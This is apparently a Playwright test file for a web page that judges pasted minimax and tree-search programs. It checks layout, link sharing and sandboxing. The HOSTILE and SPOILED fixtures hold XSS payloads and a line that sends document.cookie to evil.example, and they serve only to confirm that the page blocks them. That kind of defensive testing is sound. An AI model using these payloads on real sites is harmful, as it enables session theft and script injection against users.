"""The page *Is my minimax right?* without Python: what its scripts do with a program."""

import json
from pathlib import Path

import pytest

from judging.court.programs import mutant
from search_walkthroughs import lab
from search_walkthroughs.captions.catalogue import languages, section
from search_walkthroughs.pages.course.try_page import try_address

from .stub_worker import open_cell

pytestmark = pytest.mark.browser
PROGRAMS = Path(__file__).parents[1] / "judging/programs"
WRONG = (PROGRAMS / "wrong_cut_sign.py").read_text("utf-8")
WORKER = """
const answer = {answer};
onmessage = ({{ data: {{ start, id, call, given }} }}) => {{
  if (start) return postMessage({{ ready: {{}} }});
  const asked = {{ ...answer, counts: JSON.stringify([call, ...given]) }};
  postMessage({{ id, ms: 1, memory: 1e6, result: asked }});
}};
"""
HOSTILE = """</textarea><img src=x onerror="parent.hit = 1"><script>parent.hit = 1</script>
import js
js.fetch("http://evil.example/" + js.document.cookie)
"""
SPOILED = {
    "kind": "wrong",
    "headline": "<img src=x onerror=\"document.title = 'hit'\">",
    "says": ["<script>document.title = 'hit'</script>"],
    "tree": "<b>[1]</b>",
    "frame": 1,
    "html": "",
    "films": [],
    "others": [],
}
"""What a program may send that has taken the worker over."""
GRIDS = ("grid", "grid-faded")
"""Classes of a board whose position was read, and of one that was skipped."""


def words(language="en"):
    return {**section(language, "try"), **section(language, "check")}


@pytest.fixture
def open_(browser):
    """Open the page; the worker answers every program so."""
    contexts = []

    def open_(answer, *, work="", size=(1280, 800), language="en"):
        width, height = size
        contexts.append(browser.new_context(viewport={"width": width, "height": height}))
        worker = WORKER.format(answer=json.dumps(answer))
        opened = open_cell(
            contexts[-1], "check-cell.html", words(language), worker, (), language,
            start=False, work=work,
        )  # fmt: skip
        opened.cell.locator("main[aria-busy=false]").wait_for(state="attached")
        opened.page.add_style_tag(content="body { margin: 0 } iframe { width: 100%; border: 0 }")
        return opened

    yield open_
    for context in contexts:
        context.close()


def judge(opened):
    opened.cell.locator(".md-button--primary").click()
    opened.cell.locator(".wt-verdict, .wt-try-fault").first.wait_for()
    opened.cell.locator("main[aria-busy=false]").wait_for()


@pytest.mark.parametrize(("size", "language"), [((1280, 800), "en"), ((390, 844), "ja")])
def test_a_monte_carlo_tree_search_is_shown_with_its_tree(open_, size, language):
    program, _ = mutant("per node", "one view", "pile")
    opened = open_(lab.call("judge", program, language), size=size, language=language)
    opened.cell.locator("textarea").fill(program)
    judge(opened)
    assert opened.cell.locator(".wt-verdict").get_attribute("data-kind") == "wrong"
    opened.cell.locator(".wt-visits-box svg").wait_for()
    assert opened.cell.locator(".wt-additions tbody tr").count() >= 3
    assert opened.cell.locator(".wt-program .wt-named").count() == 1
    wide = opened.cell.locator("main").evaluate("main => main.scrollWidth - main.clientWidth")
    assert wide <= 0, "nothing stands beyond the side of the page"


@pytest.mark.parametrize("size", [(1280, 800), (390, 844)])
def test_a_pasted_program_and_its_verdict_stand_in_one_view(open_, size):
    opened = open_(lab.call("judge", WRONG, "en", "", "any"), size=size)
    opened.cell.locator("textarea").fill(WRONG)
    judge(opened)
    asked = json.loads(opened.cell.locator(".wt-verdict p").first.text_content())
    assert asked == ["judge", WRONG, "en", "", "any", "", None, None]
    assert opened.cell.locator(".wt-verdict").get_attribute("data-kind") == "wrong"
    player = opened.cell.locator(".wt-player")
    assert player.count() == 1
    text, said = (opened.cell.locator(one).bounding_box() for one in ("textarea", ".wt-verdict"))
    assert said["y"] + 60 < size[1], "what is said begins in the first screen"
    if size[0] > 900:
        assert text["x"] + text["width"] <= said["x"]
        bottom = player.bounding_box()
        assert bottom["y"] + bottom["height"] <= size[1] + 160


@pytest.mark.sample(1)
@pytest.mark.parametrize("language", languages())
def test_what_a_link_brings_is_shown_and_does_not_run_before_a_press(open_, language):
    work = try_address("", {"program": HOSTILE, "call": "search(tree)"})
    opened = open_(SPOILED, work=work, language=language)
    assert opened.cell.locator("textarea").input_value() == HOSTILE
    assert words(language)["foreign_program"] in opened.cell.locator("main").inner_text()
    opened.page.wait_for_timeout(200)
    assert opened.workers == []
    assert opened.page.evaluate("window.hit") is None
    sandbox = opened.page.locator("iframe").get_attribute("sandbox")
    assert "allow-same-origin" not in sandbox
    judge(opened)
    asked = json.loads(opened.cell.locator(".wt-verdict p").first.text_content())
    assert asked[1:] == [HOSTILE, language, "", "any", "search(tree)", None, None]
    assert len(opened.workers) == 1
    assert opened.cell.locator(".wt-verdict :is(img, script)").count() == 0
    (frame,) = opened.page.frames[1:]
    assert frame.title() == section("en", "check")["title"]
    assert "SecurityError" in frame.evaluate("try { document.cookie } catch (e) { e.name }")


def test_a_program_is_kept_in_a_link_and_comes_back(open_):
    opened = open_(SPOILED)
    opened.cell.locator("textarea").fill(WRONG)
    opened.cell.locator("details summary").click()
    opened.cell.locator("[placeholder='minimax(board, 0, True)']").fill("f(tree)")
    opened.cell.get_by_role("button", name=words()["share"]).click()
    opened.page.wait_for_function("location.hash.length > 9")
    again = open_(SPOILED, work=opened.page.evaluate("location.hash"))
    assert again.cell.locator("textarea").input_value() == WRONG
    assert again.cell.locator("[placeholder='minimax(board, 0, True)']").input_value() == "f(tree)"


def test_a_damaged_link_and_no_program_are_said(open_):
    opened = open_(SPOILED, work="#lab=1.AAAA")
    assert words()["damaged_program"] in opened.cell.locator("main").inner_text()
    judge(opened)
    assert words()["empty"] in opened.cell.locator("main").inner_text()
    assert opened.workers == []


def test_the_boards_of_its_own_game_are_drawn(open_):
    from judging.own.games import mutant

    found = lab.call("judge", mutant("undo", "own score"), "en", "", "any")
    opened = open_(found)
    opened.cell.locator("textarea").fill("x = 1")
    judge(opened)
    player = opened.cell.locator(".wt-player")
    player.locator("button.wt-more").click()
    player.locator("button.wt-last").click()
    player.locator(".wt-canvas .current").wait_for()
    nodes = player.locator(".wt-canvas [data-node]").count()
    read, unread = (player.locator(f".wt-canvas .{grid}").count() for grid in GRIDS)
    assert read + unread == nodes > 1, "each position has its board"
    assert unread > 0, "a move that was not looked at is faded"
    _, error = found["says"][-1].split("): ")  # after the position, which the picture shows
    assert error in player.locator(".wt-canvas svg").get_attribute("aria-label")
